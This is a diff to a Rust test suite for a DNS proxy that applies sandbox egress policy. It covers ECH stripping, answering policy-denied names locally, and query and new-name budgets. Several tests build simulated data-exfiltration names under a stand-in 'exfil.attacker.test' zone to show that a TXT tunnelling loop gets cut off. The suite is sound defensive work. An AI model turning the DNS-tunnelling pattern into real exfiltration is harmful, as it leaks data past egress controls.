@@ -8,11 +8,15 @@ use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use dns_attrib::{
-    Admit, AttributionCache, CacheConfig, DnsProxy, ManualClock, ProxyConfig, QueryAdmission,
+    Admit, AttributionCache, BudgetLimits, CacheConfig, DnsProxy, ManualClock, ProxyConfig,
+    QueryAdmission,
 };
-use egress_policy::{AttributionGap, SandboxId};
+use egress_policy::{AttributionGap, CompiledPolicy, PlatformDenies, Policy, SandboxId};
 use hickory_proto::op::{Edns, Message, MessageType, Metadata, OpCode, Query, ResponseCode};
-use hickory_proto::rr::rdata::{A, AAAA, CNAME};
+use hickory_proto::rr::rdata::svcb::{
+    Alpn, EchConfigList, IpHint, SvcParamKey, SvcParamValue, Unknown, SVCB,
+};
+use hickory_proto::rr::rdata::{A, AAAA, CNAME, HTTPS};
 use hickory_proto::rr::{Name, RData, Record, RecordType};
 use hickory_server::net::runtime::Time;
 use hickory_server::net::xfer::Protocol;
@@ -110,6 +114,35 @@ fn a(owner: &str, ttl: u32, ip: Ipv4Addr) -> Record {
     Record::from_rdata(name(owner), ttl, RData::A(A(ip)))
 }
 
+/// An HTTPS record for `owner` with alpn, ipv4hint and an unknown key, and `ech` when asked.
+fn https_record(owner: &str, ech: bool) -> Record {
+    let mut params = vec![
+        (
+            SvcParamKey::Alpn,
+            SvcParamValue::Alpn(Alpn(vec!["h2".into(), "http/1.1".into()])),
+        ),
+        (
+            SvcParamKey::Ipv4Hint,
+            SvcParamValue::Ipv4Hint(IpHint(vec![A::new(203, 0, 113, 65)])),
+        ),
+    ];
+    if ech {
+        params.push((
+            SvcParamKey::EchConfigList,
+            SvcParamValue::EchConfigList(EchConfigList(b"\x00\x08\xfe\x0d\x00\x04ech!".to_vec())),
+        ));
+    }
+    params.push((
+        SvcParamKey::Unknown(65000),
+        SvcParamValue::Unknown(Unknown(b"kept".to_vec())),
+    ));
+    Record::from_rdata(
+        name(owner),
+        300,
+        RData::HTTPS(HTTPS(SVCB::new(1, name("."), params))),
+    )
+}
+
 fn scripts() -> HashMap<String, Script> {
     let ip = |s: &str| s.parse::<Ipv4Addr>().expect(s);
     let mut m = HashMap::new();
@@ -180,6 +213,16 @@ fn scripts() -> HashMap<String, Script> {
         },
     );
     put(
+        "ech.test",
+        Script {
+            answers: vec![
+                https_record("ech.test.", true),
+                a("ech.test.", 300, ip("203.0.113.65")),
+            ],
+            ..Script::default()
+        },
+    );
+    put(
         "gone.test",
         Script {
             rcode: Some(ResponseCode::NXDomain),
@@ -235,15 +278,50 @@ const SANDBOX_B: &str = "127.0.0.3";
 const NO_DNS: &str = "127.0.0.4";
 const RESOLVER: &str = "8.8.8.8:53";
 
-/// A and B may use the resolver; "nodns" may not; anything else is unknown.
-struct Sandboxes;
+const SANDBOX_C: &str = "127.0.0.5";
+
+/// Budgets no test of the cache's own bounds reaches (they flood one sandbox).
+const NO_BUDGET: BudgetLimits = BudgetLimits {
+    qps: 1_000_000,
+    new_names_per_minute: 1_000_000,
+};
+
+/// C's policy: names by policy, a few types, 4 new names a minute.
+const POLICY_C: &str = r#"{"default": "deny",
+    "allow": [{"domain": "api.test"}, {"wildcard_domain": "*.shop.test"}, {"ip": "8.8.8.8"}],
+    "deny": [{"domain": "bad.shop.test"}],
+    "dns": {"resolve": "policy", "query_types": ["A", "AAAA", "HTTPS"],
+            "budget": {"new_names_per_minute": 4}}}"#;
+
+/// A and B may use the resolver, with no `dns` section; C with `POLICY_C`;
+/// "nodns" may not; anything else is unknown.
+struct Sandboxes {
+    open: Arc<CompiledPolicy>,
+    c: Arc<CompiledPolicy>,
+}
+
+impl Sandboxes {
+    fn new() -> Self {
+        let compile = |text: &str| {
+            Arc::new(CompiledPolicy::new(
+                Policy::from_json(text).expect(text),
+                Arc::new(PlatformDenies::builtin()),
+            ))
+        };
+        Self {
+            open: compile(r#"{"default": "allow"}"#),
+            c: compile(POLICY_C),
+        }
+    }
+}
 
 impl QueryAdmission for Sandboxes {
     fn admit(&self, src: IpAddr, resolver: SocketAddr) -> Admit {
         assert_eq!(resolver, RESOLVER.parse::<SocketAddr>().expect("addr"));
         match src.to_string().as_str() {
-            SANDBOX_A => Admit::Allowed(SandboxId::new("a")),
-            SANDBOX_B => Admit::Allowed(SandboxId::new("b")),
+            SANDBOX_A => Admit::Allowed(SandboxId::new("a"), self.open.clone()),
+            SANDBOX_B => Admit::Allowed(SandboxId::new("b"), self.open.clone()),
+            SANDBOX_C => Admit::Allowed(SandboxId::new("c"), self.c.clone()),
             NO_DNS => Admit::Refused(SandboxId::new("nodns")),
             _ => Admit::Unknown,
         }
@@ -281,7 +359,7 @@ async fn harness(
     let clock = ManualClock::new();
     let cache = Arc::new(AttributionCache::new(cc, clock.clone()));
     let upstream_addrs = pc.upstreams.clone();
-    let proxy = DnsProxy::new(pc, cache, Arc::new(Sandboxes));
+    let proxy = DnsProxy::new(pc, cache, Arc::new(Sandboxes::new()));
     let udp = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
     let tcp = TcpListener::bind("127.0.0.1:0").await.expect("bind");
     let (udp_addr, tcp_addr) = (
@@ -407,6 +485,235 @@ async fn answers_are_returned_byte_for_byte() {
         buf
     };
     assert_eq!(through_proxy, direct);
+}
+
+#[tokio::test]
+async fn ech_is_stripped_from_https_answers_and_the_rest_kept() {
+    let h = harness(|_, _| {}, false).await;
+    let q = query("ech.test.", RecordType::HTTPS, Some(1232));
+    // The upstream does send it.
+    let direct = {
+        let s = UdpSocket::bind("127.0.0.1:0").await.expect("bind");
+        let up = *h.upstream_addrs.last().expect("an upstream");
+        s.send_to(&q.to_vec().expect("encode"), up)
+            .await
+            .expect("send");
+        let mut buf = vec![0u8; 65_535];
+        let (n, _) = s.recv_from(&mut buf).await.expect("recv");
+        Message::from_vec(&buf[..n]).expect("parses")
+    };
+    assert!(dns_attrib::has_ech(&direct), "{direct:?}");
+    for over_tcp in [false, true] {
+        let m = if over_tcp {
+            tcp(&h, SANDBOX_A, &q).await
+        } else {
+            udp(&h, SANDBOX_A, &q).await.1
+        };
+        assert_eq!(m.metadata.response_code, ResponseCode::NoError);
+        assert_eq!(m.metadata.id, 0x4242);
+        assert!(!dns_attrib::has_ech(&m), "tcp={over_tcp}: {m:?}");
+        assert_eq!(
+            m.answers,
+            [
+                https_record("ech.test.", false),
+                a("ech.test.", 300, "203.0.113.65".parse().expect("ip"))
+            ],
+            "everything but ech, in order"
+        );
+    }
+    assert_eq!(h.proxy.metrics().ech_stripped.get(), 2);
+    assert_eq!(h.proxy.metrics().servfail.get(), 0);
+    // The attribution is the answer's, as ever.
+    assert_eq!(names(&h, "a", "203.0.113.65"), ["ech.test"]);
+    // An HTTPS answer without ech is passed byte for byte.
+    let (_, m) = udp(&h, SANDBOX_A, &query("api.test.", RecordType::HTTPS, None)).await;
+    assert_eq!(m.metadata.response_code, ResponseCode::NoError);
+    assert_eq!(h.proxy.metrics().ech_stripped.get(), 2);
+}
+
+#[tokio::test]
+async fn resolve_policy_answers_denied_names_locally_and_nothing_reaches_the_upstream() {
+    let h = harness(|_, _| {}, false).await;
+    let upstream = |h: &Harness| h.upstream.udp.load(Ordering::SeqCst);
+    // Allowed names are looked up, and attributed as ever.
+    for (name, rtype) in [
+        ("api.test.", RecordType::A),
+        ("www.shop.test.", RecordType::A),
+        ("api.test.", RecordType::HTTPS),
+    ] {
+        let before = upstream(&h);
+        let (_, m) = udp(&h, SANDBOX_C, &query(name, rtype, None)).await;
+        assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{name}");
+        assert_eq!(upstream(&h), before + 1, "{name} was asked upstream");
+    }
+    assert_eq!(names(&h, "c", "203.0.113.7"), ["api.test"]);
+    // Denied, not covered by an allow, not a hostname: NXDOMAIN, never sent.
+    let before = upstream(&h);
+    for name in [
+        "bad.shop.test.",
+        "mfrggzdfmztwq2lknnwg23tpoa.exfil.attacker.test.",
+        "shop.test.",
+        "_svc._tcp.api.test.",
+    ] {
+        let (_, m) = udp(&h, SANDBOX_C, &query(name, RecordType::A, None)).await;
+        assert_eq!(m.metadata.response_code, ResponseCode::NXDomain, "{name}");
+        assert_eq!(m.metadata.id, 0x4242);
+        assert!(m.answers.is_empty());
+        assert_eq!(
+            m.queries[0].name.to_string(),
+            name,
+            "the question is echoed"
+        );
+    }
+    let m = tcp(&h, SANDBOX_C, &query("bad.shop.test.", RecordType::A, None)).await;
+    assert_eq!(
+        m.metadata.response_code,
+        ResponseCode::NXDomain,
+        "over TCP too"
+    );
+    // Types outside query_types, and ANY, are REFUSED, also for allowed names.
+    for rtype in [RecordType::TXT, RecordType::ANY, RecordType::NULL] {
+        let (_, m) = udp(&h, SANDBOX_C, &query("api.test.", rtype, None)).await;
+        assert_eq!(m.metadata.response_code, ResponseCode::Refused, "{rtype}");
+    }
+    assert_eq!(upstream(&h), before, "nothing reached the upstream");
+    assert_eq!(h.upstream.tcp.load(Ordering::SeqCst), 0);
+    assert_eq!(h.proxy.metrics().policy_nxdomain.get(), 5);
+    assert_eq!(h.proxy.metrics().policy_refused.get(), 3);
+    assert_eq!(
+        h.proxy.metrics().refused.get(),
+        0,
+        "not an admission refusal"
+    );
+    // Without a dns section, the same queries leave as before (ANY included).
+    for (name, rtype) in [
+        ("bad.shop.test.", RecordType::A),
+        ("api.test.", RecordType::ANY),
+    ] {
+        let (_, m) = udp(&h, SANDBOX_A, &query(name, rtype, None)).await;
+        assert_eq!(m.metadata.response_code, ResponseCode::NoError, "{name}");
+    }
+    assert_eq!(upstream(&h), before + 2);
+}
+
+/// Sends `qname` (TXT) from `src` over UDP; the response code.
+async fn txt(h: &Harness, src: &str, qname: &str) -> ResponseCode {
+    let (_, m) = udp(h, src, &query(qname, RecordType::TXT, None)).await;
+    m.metadata.response_code
+}
+
+#[tokio::test]
+async fn a_txt_exfiltration_loop_stops_at_the_budget_and_another_sandbox_is_unaffected() {
+    let h = harness(
+        |pc, _| {
+            pc.budget = BudgetLimits {
+                qps: 1_000,
+                new_names_per_minute: 40,
+            }
+        },
+        false,
+    )
+    .await;
+    let upstream = |h: &Harness| h.upstream.udp.load(Ordering::SeqCst);
+    // One chunk of "data" per name, every name new, all under one zone.
+    let chunk = |i: u32| {
+        format!(
+            "c{i:04}-{:08x}.exfil.attacker.test.",
+            i.wrapping_mul(2_654_435_761)
+        )
+    };
+    let mut codes = Vec::new();
+    for i in 0..200 {
+        codes.push(txt(&h, SANDBOX_A, &chunk(i)).await);
+    }
+    let left = codes
+        .iter()
+        .filter(|c| **c == ResponseCode::NoError)
+        .count();
+    assert_eq!(left, 40, "the burst of one minute's names, then nothing");
+    assert!(
+        codes[40..].iter().all(|c| *c == ResponseCode::Refused),
+        "{codes:?}"
+    );
+    assert_eq!(upstream(&h), 40, "REFUSED queries never left");
+    assert_eq!(h.proxy.metrics().budget_refused.get(), 160);
+    // A name the sandbox asked before costs no new-name token.
+    assert_eq!(txt(&h, SANDBOX_A, &chunk(3)).await, ResponseCode::NoError);
+    // Another sandbox, at once: its own budget, untouched.
+    for i in 0..30 {
+        assert_eq!(
+            txt(&h, SANDBOX_B, &chunk(i)).await,
+            ResponseCode::NoError,
+            "b {i}"
+        );
+    }
+    let (_, m) = udp(&h, SANDBOX_B, &query("api.test.", RecordType::A, None)).await;
+    assert_eq!(m.answers.len(), 1);
+    // Half a minute later, half a minute's names (on the injected clock).
+    h.clock.advance(Duration::from_secs(30));
+    let later: Vec<ResponseCode> = futures::future::join_all((200..230).map(|i| {
+        let (h, name) = (&h, chunk(i));
+        async move { txt(h, SANDBOX_A, &name).await }
+    }))
+    .await;
+    let refilled = later
+        .iter()
+        .filter(|c| **c == ResponseCode::NoError)
+        .count();
+    assert_eq!(refilled, 20, "{later:?}");
+}
+
+#[tokio::test]
+async fn queries_per_second_are_bounded_and_policies_override_the_defaults() {
+    let h = harness(
+        |pc, _| {
+            pc.budget = BudgetLimits {
+                qps: 5,
+                new_names_per_minute: 1_000,
+            }
+        },
+        false,
+    )
+    .await;
+    let mut codes = Vec::new();
+    for _ in 0..8 {
+        codes.push(
+            udp(&h, SANDBOX_A, &query("api.test.", RecordType::A, None))
+                .await
+                .1
+                .metadata
+                .response_code,
+        );
+    }
+    assert_eq!(
+        codes
+            .iter()
+            .filter(|c| **c == ResponseCode::NoError)
+            .count(),
+        5,
+        "{codes:?}"
+    );
+    h.clock.advance(Duration::from_secs(1));
+    let (_, m) = udp(&h, SANDBOX_A, &query("api.test.", RecordType::A, None)).await;
+    assert_eq!(m.metadata.response_code, ResponseCode::NoError, "refilled");
+    // C's policy allows 4 new names a minute, whatever the operator's default.
+    let mut c_codes = Vec::new();
+    for i in 0..6 {
+        let q = query(&format!("x{i}.shop.test."), RecordType::A, None);
+        c_codes.push(udp(&h, SANDBOX_C, &q).await.1.metadata.response_code);
+        h.clock.advance(Duration::from_millis(200)); // within C's query rate
+    }
+    assert_eq!(
+        c_codes,
+        [
+            ResponseCode::NoError,
+            ResponseCode::NoError,
+            ResponseCode::NoError,
+            ResponseCode::NoError,
+            ResponseCode::Refused,
+            ResponseCode::Refused
+        ]
+    );
 }
 
 #[tokio::test]
@@ -737,7 +1044,14 @@ async fn malformed_input_gets_formerr_or_silence_and_the_proxy_lives_on() {
 
 #[tokio::test]
 async fn a_flood_of_unique_names_stays_within_the_bound() {
-    let h = harness(|_, cc| cc.per_sandbox_ips = 200, false).await;
+    let h = harness(
+        |pc, cc| {
+            cc.per_sandbox_ips = 200;
+            pc.budget = NO_BUDGET;
+        },
+        false,
+    )
+    .await;
     let s = UdpSocket::bind((SANDBOX_A.parse::<IpAddr>().expect("ip"), 0))
         .await
         .expect("bind");
@@ -889,7 +1203,7 @@ async fn a_name_flood_three_times_the_cache_bound_keeps_memory_bounded_and_says_
         half > bound + 30_000,
         "{total} names: too few to fill the cache in half of them"
     );
-    let h = harness(|_, _| {}, false).await;
+    let h = harness(|pc, _| pc.budget = NO_BUDGET, false).await;
     // The quiet sandbox resolves one name before the flood.
     let (_, m) = udp(&h, SANDBOX_B, &query("api.test.", RecordType::A, None)).await;
     assert_eq!(m.metadata.response_code, ResponseCode::NoError);
